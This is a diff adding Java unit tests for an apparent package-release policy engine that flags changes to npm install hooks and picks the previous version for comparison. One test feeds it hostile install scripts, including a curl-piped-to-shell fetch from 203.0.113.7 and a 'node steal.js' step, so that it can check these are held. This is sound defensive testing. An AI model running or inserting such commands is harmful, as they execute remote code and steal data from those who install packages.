@@ -315,6 +315,167 @@ class PolicyEngineTest {
         }
     }
 
+    @Nested
+    class NativeBuildCommands {
+
+        private final String prePyp = "node-pre-gyp install --fallback-to-build";
+
+        @Test
+        void movingBetweenWellKnownNativeBuildCommandsIsANoteUnderNewAndAHoldUnderStrict() {
+            // bcrypt 6.0.0 moved from node-pre-gyp to node-gyp-build.
+            List<ReleaseFacts> history = List.of(
+                    plain("5.1.1", 200, Map.of("install", prePyp)),
+                    plain("6.0.0", 100, Map.of("install", "node-gyp-build")));
+            Evaluation moved = run(cfg().engine(), history).get(1);
+            assertEquals(Verdict.APPROVED, moved.verdict(), moved.findings()::toString);
+            Finding f = onlyFinding(moved, "install-hooks");
+            assertFalse(f.holds());
+            assertTrue(f.message().contains("one well-known native-build command for another"), f.message());
+            assertEquals(prePyp, f.evidence().get("previousScript"));
+
+            Evaluation strict = run(cfg().hooks(InstallHooks.STRICT).engine(), history).get(1);
+            assertHeldIndefinitely(strict);
+            assertTrue(onlyFinding(strict, "install-hooks").holds());
+        }
+
+        @Test
+        void theCommandsAreMatchedWholeSoAnythingAddedIsAChange() {
+            for (String changed : List.of("node-gyp rebuild && curl -s https://203.0.113.7/x.sh | sh",
+                    "node-gyp-build; node steal.js", "prebuild-install || node install.js", "node install.js")) {
+                Evaluation e = run(cfg().engine(), List.of(
+                        plain("1.0.0", 200, Map.of("install", "prebuild-install -r napi || node-gyp rebuild")),
+                        plain("1.0.1", 100, Map.of("install", changed)))).get(1);
+                assertHeldIndefinitely(e);
+                assertFalse(onlyFinding(e, "install-hooks").message().contains("well-known"), changed);
+            }
+            assertTrue(NativeBuilds.isKnown("prebuild-install  -r napi ||  node-gyp rebuild"));
+            assertTrue(NativeBuilds.isKnown("node-gyp rebuild (implicit: binding.gyp)"));
+            assertTrue(NativeBuilds.isKnown("cmake-js compile"));
+            assertFalse(NativeBuilds.isKnown("node-gyp rebuild --nodedir=/tmp/x"));
+        }
+
+        @Test
+        void addingAHookWhereThereWasNoneStillHolds() {
+            Evaluation e = run(cfg().engine(), List.of(
+                    plain("5.1.1", 200, Map.of()),
+                    plain("6.0.0", 100, Map.of("install", "node-gyp-build")))).get(1);
+            assertHeldIndefinitely(e);
+            assertTrue(onlyFinding(e, "install-hooks").message().startsWith("adds an install script"), e.findings()::toString);
+        }
+    }
+
+    /**
+     * Which release another is compared with: the highest lower version published before it, in
+     * the ecosystem's order, pre-releases passed over for a final release, and version order alone
+     * where times are missing or say nothing sensible.
+     */
+    @Nested
+    class PreviousVersion {
+
+        /** Dotted numbers; a "-" suffix is a pre-release, below its release. Enough semver for these cases. */
+        private static final dev.airlock.core.ecosystem.VersionOrder DOTTED = new dev.airlock.core.ecosystem.VersionOrder() {
+            @Override
+            public boolean preRelease(String version) {
+                return version.contains("-");
+            }
+
+            @Override
+            public int compare(String a, String b) {
+                String[] x = a.split("-", 2);
+                String[] y = b.split("-", 2);
+                String[] xa = x[0].split("\\.");
+                String[] ya = y[0].split("\\.");
+                for (int i = 0; i < Math.max(xa.length, ya.length); i++) {
+                    int c = Long.compare(i < xa.length ? Long.parseLong(xa[i]) : 0, i < ya.length ? Long.parseLong(ya[i]) : 0);
+                    if (c != 0) {
+                        return c;
+                    }
+                }
+                if (x.length != y.length) {
+                    return x.length == 1 ? 1 : -1;
+                }
+                return x.length == 1 ? 0 : x[1].compareTo(y[1]);
+            }
+        };
+
+        private Map<String, String> previousOf(List<ReleaseFacts> history) {
+            ReleaseFacts[] p = PolicyEngine.previous(history, DOTTED);
+            Map<String, String> out = new LinkedHashMap<>();
+            for (int i = 0; i < history.size(); i++) {
+                out.put(history.get(i).version(), p[i] == null ? null : p[i].version());
+            }
+            return out;
+        }
+
+        /** A release published that many days ago, or at an unknown time (null). */
+        private ReleaseFacts at(String version, Integer daysAgo) {
+            return new ReleaseFacts(version, daysAgo == null ? null : NOW.minus(Duration.ofDays(daysAgo)), null, null, Map.of(), Map.of());
+        }
+
+        @Test
+        void aBackportIsNotThePreviousVersionOfTheNewerLine() {
+            // Publish order: 1.0.0, 2.0.0, then 1.0.1 (a fix backported to 1.x), then 2.0.1.
+            Map<String, String> p = previousOf(List.of(at("1.0.0", 300), at("2.0.0", 200), at("1.0.1", 100), at("2.0.1", 50)));
+            assertEquals("1.0.0", p.get("2.0.0"));
+            assertEquals("1.0.0", p.get("1.0.1"));
+            assertEquals("2.0.0", p.get("2.0.1"));
+            assertNull(p.get("1.0.0"));
+        }
+
+        @Test
+        void aLowerVersionPublishedLaterIsNotWhatAReleaseUpgradedFrom() {
+            // 1.5.0 was backported to 1.x after 2.0.0 came out: 2.0.0 upgraded from 1.4.0.
+            Map<String, String> p = previousOf(List.of(at("1.4.0", 300), at("2.0.0", 200), at("1.5.0", 100)));
+            assertEquals("1.4.0", p.get("2.0.0"));
+            assertEquals("1.4.0", p.get("1.5.0"));
+        }
+
+        @Test
+        void aFinalReleasePassesOverPreReleases() {
+            // core-js on the mirror: 3.0.0-beta.20 and 4.0.0-alpha.0 carry times just before 3.51.0.
+            Map<String, String> p = previousOf(List.of(at("3.0.0-beta.20", 400), at("3.49.0", 300), at("3.50.0", 200),
+                    at("3.51.0-rc.1", 60), at("4.0.0-alpha.0", 51), at("3.51.0", 50)));
+            assertEquals("3.50.0", p.get("3.51.0"));
+            // A pre-release is compared with whatever is just below it.
+            assertEquals("3.50.0", p.get("3.51.0-rc.1"));
+            assertEquals("3.51.0-rc.1", p.get("4.0.0-alpha.0"));
+            // With only pre-releases below, a final release is compared with the highest of them.
+            assertEquals("1.0.0-rc.2", previousOf(List.of(at("1.0.0-rc.1", 30), at("1.0.0-rc.2", 20), at("1.0.0", 10))).get("1.0.0"));
+        }
+
+        @Test
+        void timesThatContradictVersionOrderLeaveItToVersionOrder() {
+            // cpu-features on the mirror: 0.0.10 carries a time before every lower version.
+            Map<String, String> p = previousOf(List.of(at("0.0.10", 300), at("0.0.8", 200), at("0.0.9", 100)));
+            assertEquals("0.0.9", p.get("0.0.10"));
+            // aws-sdk: publish order alone put 2.2.4 right before 2.1693.0; the highest lower published before wins.
+            Map<String, String> aws = previousOf(List.of(at("2.1692.0", 500), at("2.1691.0", 400), at("2.2.4", 200), at("2.1693.0", 100)));
+            assertEquals("2.1692.0", aws.get("2.1693.0"));
+        }
+
+        @Test
+        void missingTimesLeaveItToVersionOrder() {
+            Map<String, String> none = previousOf(List.of(at("2.0.0", null), at("1.0.0", null), at("1.1.0", null)));
+            assertEquals("1.1.0", none.get("2.0.0"));
+            assertEquals("1.0.0", none.get("1.1.0"));
+            // One side unknown: the lower version without a time is not passed over for an older one.
+            Map<String, String> some = previousOf(List.of(at("1.0.0", 300), at("1.1.0", null), at("1.2.0", 100), at("1.3.0", null)));
+            assertEquals("1.1.0", some.get("1.2.0"));
+            assertEquals("1.2.0", some.get("1.3.0"));
+        }
+
+        @Test
+        void theEngineJudgesHooksAgainstThatVersion() {
+            // cpu-features: 0.0.10 is not "the first version" because its time is the oldest.
+            List<ReleaseFacts> history = List.of(
+                    plain("0.0.10", 300, Map.of("install", "node-gyp rebuild")),
+                    plain("0.0.9", 200, Map.of("install", "node-gyp rebuild")));
+            Evaluation e = cfg().engine().evaluate("npm", "cpu-features", history, Map.of(), Map.of(), d -> null, DOTTED, NOW).get(0);
+            assertEquals(Verdict.APPROVED, e.verdict(), e.findings()::toString);
+            assertEquals("0.0.9", onlyFinding(e, "install-hooks").evidence().get("previousVersion"));
+        }
+    }
+
     @Test
     void installHooksAllHoldsEveryVersionWithAHook() {
         List<Evaluation> out = run(cfg().hooks(InstallHooks.ALL).engine(), List.of(
